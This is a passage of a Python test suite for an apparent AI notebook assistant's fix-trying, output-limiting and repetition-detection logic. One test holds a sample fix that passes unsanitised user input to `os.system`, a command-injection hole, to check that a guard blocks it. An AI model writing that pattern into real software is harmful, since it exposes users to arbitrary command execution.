            "runs now, output 3.5",
        ),
        (
            {"summary": "ran in a copy in 1 ms: 1 new variable"},
            "runs now, no output; ran in a copy in 1 ms: 1 new variable",
        ),
        ({"error": "KeyError: 'k'", "error_line": 2}, "still fails: KeyError: 'k' (line 2)"),
        (
            {"error": "PermissionError: A Try changes no files", "refused": True, "summary": "stopped in a copy"},
            "can't be told: stopped in a copy",
        ),
        ({"problem": "It was cancelled.", "summary": "It was cancelled."}, "It was cancelled."),
    ],
)
def test_the_try_of_a_fix_says_whether_it_runs_now(trying, result, said):
    fix(trying, "x = 1")
    trying.session.receive_trial(TrialResult(turn_id="t1", cell_id="c", source_hash="h", **result))
    trying.drain()
    assert trying.view.trials["c"].summary.startswith(said)
    assert not trying.view.proposals["c"].trying
    assert trying.session.trying == ()


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("# x = 1 / 0", "runs, but only without “x = 1 / 0”; ran"),
        ("pass", "runs, but only without “x = 1 / 0”; ran"),
        ("x = 1 / 2", "runs now, no output; ran"),
        ("try:\n    x = 1 / 0\nexcept ZeroDivisionError:\n    x = 0", "runs now, no output; ran"),
    ],
)
def test_a_fix_that_only_leaves_out_what_failed_is_not_said_to_run_now(trying, source, said):
    fix(trying, source)
    trying.session.receive_trial(
        TrialResult(turn_id="t1", cell_id="c", source_hash="h", summary="ran in a copy in 1 ms")
    )
    trying.drain()
    assert trying.view.trials["c"].summary.startswith(said)


@pytest.mark.parametrize(
    ("base", "source", "gone"),
    [
        ("a = 1\nb = 2\nc = 3", "b = 2", "“a = 1” and 1 more"),
        ("%matplotlib inline\nif a:\n    %time f()\n    g()", "%matplotlib inline\nif a:\n    %time f()", "“g()”"),
        ("a = 1", "a = 1", ""),
        ("a = 1 +", "", ""),
        ("a = 1", "a = = 1", ""),
        ("a = 1\nb = 2", "b = 2\na = 1", ""),
    ],
)
def test_what_a_repair_leaves_out(base, source, gone):
    assert left_out(base, source) == gone


def test_a_fix_is_not_tried_where_nothing_can_be():
    assert not fix(Play(), "x = 1")


def test_a_blocked_fix_is_not_tried_by_itself():
    play = Play(guard=Guard(), tries=True)
    bad = "import os\nname = input()\nos.system('ls ' + name)"
    cell = NotebookCell(id="c", source="x = 1 / 0")
    play.prompt("Fix the error.", intent="fix", target=Target(edit="c"), cells=(cell,))
    for _ in range(3):  # it does not learn
        play.text(f"```python cell=c\n{bad}\n```\n")
    play.done()
    assert play.view.proposals["c"].state == "blocked"
    assert not [action for action in play.actions if isinstance(action, TryProposal)]


def test_a_newer_fix_of_the_same_cell_is_shown_from_its_beginning_without_the_older_ones_try(trying):
    fix(trying, "x = 1")
    trying.session.receive_trial(TrialResult(turn_id="t1", cell_id="c", source_hash="h", error="ValueError"))
    cell = NotebookCell(id="c", source="x = 1 / 0")
    trying.prompt("Again.", turn_id="t2", intent="fix", target=Target(edit="c"), cells=(cell,))
    trying.answer("```python cell=c\nx = 2\n```\n")
    assert trying.view.proposals["c"].source == "x = 2"
    assert "c" not in trying.view.trials


# --- an answer without end ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("".join(f"# {n}\n" for n in range(40_000)), "20,000 lines"),
        ("x = " + " + ".join(map(str, range(200_000))), "a line of more than 100,000 characters"),
        (
            "".join("# " + "".join(f"{n + m} word " for m in range(700)) + "\n" for n in range(1_000)),
            "1,000,000 characters",
        ),
        ("x = 1\n" * 40_000, "the same over and over"),
        ("x = " + "1" * 3_000_000, "the same over and over"),
    ],
)
def test_an_answer_without_end_is_stopped_with_a_reason_and_kept(play, text, said):
    play.prompt()
    whole = "```python\n" + text
    for start in range(0, len(whole), 4096):
        play.text(whole[start : start + 4096])
    assert play.ends == [("t1", "completed")]
    assert said in play.of(TurnEnded)[0].reason
    assert play.session.ledger.proposals[0].source.startswith(text[:20])
    assert len(play.session.ledger.proposals[0].source) <= 1_000_000
    assert DropRequest(job_id=play.requests[0].job_id) in play.actions


def test_an_edit_may_repeat_what_its_cell_repeats(play):
    source = "x = 1\n" * 1_000
    play.prompt("tidy", intent="edit", target=Target(edit="c"), cells=(NotebookCell(id="c", source=source),))
    play.answer(f"```python cell=c\n{source}```\n")
    assert play.of(TurnEnded)[0].reason == ""
    assert play.view.proposals["c"].source == source.rstrip()


def test_where_an_answer_that_repeats_itself_is_cut_does_not_depend_on_its_pieces():
    text = "before\n" + "for i in range(10):\n    print(i)\n" * 200

    def kept(size: int) -> str:
        measure, taken = Measure(), ""
        for start in range(0, len(text), size):
            piece, reason = measure.take(text[start : start + size])
            taken += piece
            if reason:
                break
        return taken

    assert len({kept(size) for size in (1, 3, 250, 251, 4096, len(text))}) == 1
    assert REPEATED <= len(kept(3)) < REPEATED + 500


def test_what_counts_on_is_not_taken_for_a_repetition():
    text = "".join(f"print({number})\n" for number in range(5_000))
    assert Measure().take(text) == (text, "")


def test_an_answer_whose_code_is_whole_but_for_its_fence_says_that_it_may_have_been_cut(play):
    play.prompt()
    play.answer("```python\nx = 1\n")
    (ended,) = play.of(TurnEnded)
    assert (ended.outcome, "inside of a code block" in ended.reason) == ("completed", True)
    assert play.view.proposals["t1-1"].state == "ready"


@pytest.mark.parametrize("text", ["```python\nx = 1\n```", "x = 1\n", "Only words.", "```python\nx = 1\n```\nWords."])
def test_an_answer_that_has_ended_its_blocks_is_whole(play, text):
    play.prompt()
    play.answer(text)
    assert play.of(TurnEnded)[0].reason == ""


def test_a_local_model_is_told_how_much_it_may_write(play):
    play.prompt()
    assert play.requests[-1].request.max_output_tokens is None
    play.session.dialogue.most_output = 2_000
    play.prompt(turn_id="t2")
    assert play.requests[-1].request.max_output_tokens == 2_000


def test_how_far_the_prompt_is_read_is_told_until_the_first_text(play):
    play.prompt()
    request = play.requests[-1]

    def tell(event: object) -> Meter:
        play.session.receive_model_event(request.job_id, request.attempt, event, at=next(play.clock))
        play.drain()
        return play.of(Meter)[-1]

    meter = tell(PromptProgress(total=2000, cached=200, processed=920))
    assert (meter.reading_tokens, meter.read_tokens) == (1800, 720)
    meter = tell(TextDelta("```python\n"))
    assert (meter.reading_tokens, meter.read_tokens) == (0, 0)


def test_a_turn_has_no_more_cells_than_a_person_could_look_at(play):
    play.prompt()
    for number in range(MOST_CELLS + 50):
        play.text(f"```python\nx{number} = 1\n```\n")
    assert len(play.session.ledger.proposals) == MOST_CELLS
    assert f"more than {MOST_CELLS} cells" in play.of(TurnEnded)[0].reason
    assert {proposal.state for proposal in play.session.ledger.proposals} == {"ready"}


@pytest.mark.parametrize("text", ["#\n" * 250_000, "y" * 900_000])
def test_the_bounds_hold_within_one_piece_of_text(play, text):
    play.prompt()
    play.text("```python\n" + text)
    source = play.session.ledger.proposals[0].source
    assert source.count("\n") <= MOST_LINES
    assert max(map(len, source.split("\n"))) <= MOST_IN_A_LINE
    assert play.ends == [("t1", "completed")]
